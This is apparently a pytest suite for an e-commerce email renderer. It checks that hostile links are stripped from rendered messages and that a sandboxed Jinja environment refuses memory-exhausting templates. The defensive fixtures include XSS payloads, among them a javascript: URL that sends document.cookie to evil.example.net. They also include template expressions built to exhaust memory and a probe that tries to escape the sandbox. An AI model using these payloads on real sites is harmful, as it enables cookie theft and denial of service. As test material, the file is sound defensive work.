"""Hostile URLs never become links, and a template cannot build unbounded values."""

from __future__ import annotations

import re
import shutil
import tracemalloc

import pytest
from jinja2 import StrictUndefined, UndefinedError
from jinja2.exceptions import SecurityError

from postpurchase.messages.context import sample_context
from postpurchase.messages.links import allowed_url, strip_unsafe_links
from postpurchase.messages.rendering import DEFAULT_TEMPLATES_DIR, MessageRenderer
from postpurchase.messages.sandbox import MAX_OUTPUT, BoundedSandbox, TemplateTooLarge

HOSTILE_URLS = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " \x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example.net/phish",
    "mailto:attacker@evil.example.net",
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_only_http_links_and_the_support_mailto_are_allowed(url):
    assert not allowed_url(url, mailto=["help@shop.example.com"])


@pytest.mark.parametrize(
    "url",
    [
        "https://shop.example.com/products/merino-crew#write-a-review",
        "http://track.example.net/parcel/JD014600006281234567",
        "mailto:Help@Shop.example.com",
    ],
)
def test_ordinary_links_stay(url):
    assert allowed_url(url, mailto=["help@shop.example.com"])


def test_an_entity_encoded_scheme_is_still_refused():
    html = '<a href="&#106;avascript:alert(1)">Sweater</a><a href="https://ok.example/x">ok</a>'
    assert strip_unsafe_links(html) == '<a>Sweater</a><a href="https://ok.example/x">ok</a>'


def test_a_refused_link_goes_with_the_space_before_it_whatever_the_case_of_its_name():
    html = (
        '<a\n  HREF = "javascript:x">a</a><img SRC=data:x alt="">'
        '<a href="https://ok.example/p?a=1&amp;b=2">b</a><a data-href="javascript:y">c</a>'
    )
    assert strip_unsafe_links(html) == (
        '<a>a</a><img alt=""><a href="https://ok.example/p?a=1&amp;b=2">b</a>'
        '<a data-href="javascript:y">c</a>'
    )


def _hostile_order():
    return {
        "external_id": "9002",
        "name": "#9002",
        "currency": "EUR",
        "subtotal": "89.00",
        "total": "89.00",
        "placed_at": "2026-11-20T10:30:00Z",
        "tracking_url": "vbscript:msgbox(1)",
        "lines": [
            {
                "external_id": "1",
                "title": "Linen Throw Pillow Cover, Sand",
                "quantity": 1,
                "unit_price": "39.00",
                "product_url": "javascript:fetch('https://evil.example.net/?c='+document.cookie)",
                "image_url": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
            },
            {
                "external_id": "2",
                "title": "Stoneware Mug, Speckled White",
                "quantity": 2,
                "unit_price": "25.00",
                "product_url": "https://shop.example.com/products/stoneware-mug",
                "image_url": "https://cdn.shop.example.com/products/mug.jpg",
            },
        ],
        "customer": {"external_id": "c9", "first_name": "Priya", "locale": "en"},
    }


def _links(html):
    return re.findall(r"""\s(?:href|src)\s*=\s*["']([^"']*)""", html)


@pytest.mark.parametrize("campaign", ["review_request", "win_back", "setup_tips"])
def test_hostile_product_urls_render_as_plain_text(renderer, shop, campaign):
    context = sample_context(shop, campaign_id=campaign, order=_hostile_order())

    html = renderer.render_email(campaign, context).html

    links = _links(html)
    assert links
    assert all(
        u.startswith(("https://", "http://")) or u == "mailto:help@shop.example.com" for u in links
    ), links
    assert "javascript:" not in html and "data:image" not in html
    assert "Linen Throw Pillow Cover, Sand" in html  # the title still shows, without a link
    assert any(u.startswith("https://shop.example.com/products/stoneware-mug") for u in links)


def test_a_hostile_tracking_url_in_a_custom_template_is_dropped(tmp_path, shop):
    templates = tmp_path / "templates"
    shutil.copytree(DEFAULT_TEMPLATES_DIR, templates)
    (templates / "email" / "delivery_checkin.html.j2").write_text(
        '<p><a href="{{ order.tracking_url }}">Track your parcel</a></p>'
        '<p><a href="{{ links.unsubscribe }}">Unsubscribe</a></p>'
    )
    context = sample_context(shop, order=_hostile_order())

    html = MessageRenderer(templates).render_email("delivery_checkin", context).html

    assert "vbscript" not in html
    assert "<a>Track your parcel</a>" in html
    assert f'href="{context["links"]["unsubscribe"]}"' in html


# --- the sandbox's limits ------------------------------------------------------------------

HUNGRY = {
    "repeat": "{{ 'x' * 10**8 }}",
    "repeat a list": "{{ ([1] * 10**8) | length }}",
    "power": "{{ 10 ** (10 ** 8) }}",
    "printf width": "{{ '%100000000s' % 'x' }}",
    "format width": "{{ '{:>100000000}'.format('x') }}",
    "format filter": "{{ '%100000000d' | format(1) }}",
    "center filter": "{{ 'x' | center(10**8) }}",
    "indent filter": "{{ 'a\nb' | indent(10**8) }}",
    "ljust": "{{ 'x'.ljust(10**8) }}",
    "replace": "{{ ('x' * 1000) | replace('', 'y' * 5000) }}",
    "doubling": "{% set ns = namespace(s='x') %}{% for i in range(40) %}"
    "{% set ns.s = ns.s + ns.s %}{% endfor %}{{ ns.s | length }}",
    "nested ranges": "{% for i in range(1000) %}{% for j in range(1000) %}.{% endfor %}"
    "{% endfor %}",
    "output": "{% for i in range(20000) %}{{ 'x' * 100 }}{% endfor %}",
}


@pytest.mark.parametrize("source", HUNGRY.values(), ids=HUNGRY.keys())
def test_a_template_cannot_build_huge_values(tmp_path, shop, source):
    templates = tmp_path / "templates"
    shutil.copytree(DEFAULT_TEMPLATES_DIR, templates)
    (templates / "email" / "win_back.txt.j2").write_text(source)
    renderer = MessageRenderer(templates)

    tracemalloc.start()
    try:
        with pytest.raises(TemplateTooLarge, match=r"template email/win_back\.txt\.j2: "):
            renderer.render_email("win_back", sample_context(shop, campaign_id="win_back"))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 3 * MAX_OUTPUT * 4  # a few MB at most, never the 100 MB asked for


def test_ordinary_arithmetic_and_formatting_still_work(renderer, shop):
    source = (
        "{{ '%05.2f' % 3.14159 }} {{ '{:,}'.format(1234567) }} {{ 2 ** 10 }} "
        "{{ 'ab' * 3 }} {{ ['a', 'b'] | join(', ') }} {{ 'x' | center(5) }}|"
    )
    assert renderer.env.from_string(source).render() == "03.14 1,234,567 1024 ababab a, b   x  |"


def test_a_dotted_name_finds_a_key_or_a_method_of_dict_as_in_jinja():
    env = BoundedSandbox(undefined=StrictUndefined)
    order = {"name": "#1001", "items": [1, 2]}
    page = "{{ order.name }} {{ order.items is callable }} {{ order['items'] | length }}"
    assert env.from_string(page).render(order=order) == "#1001 True 2"
    with pytest.raises(UndefinedError, match="'dict object' has no attribute 'missing'"):
        env.from_string("{{ order.missing }}").render(order=order)
    with pytest.raises(SecurityError):
        env.from_string("{{ order.__class__.__subclasses__() }}").render(order=order)
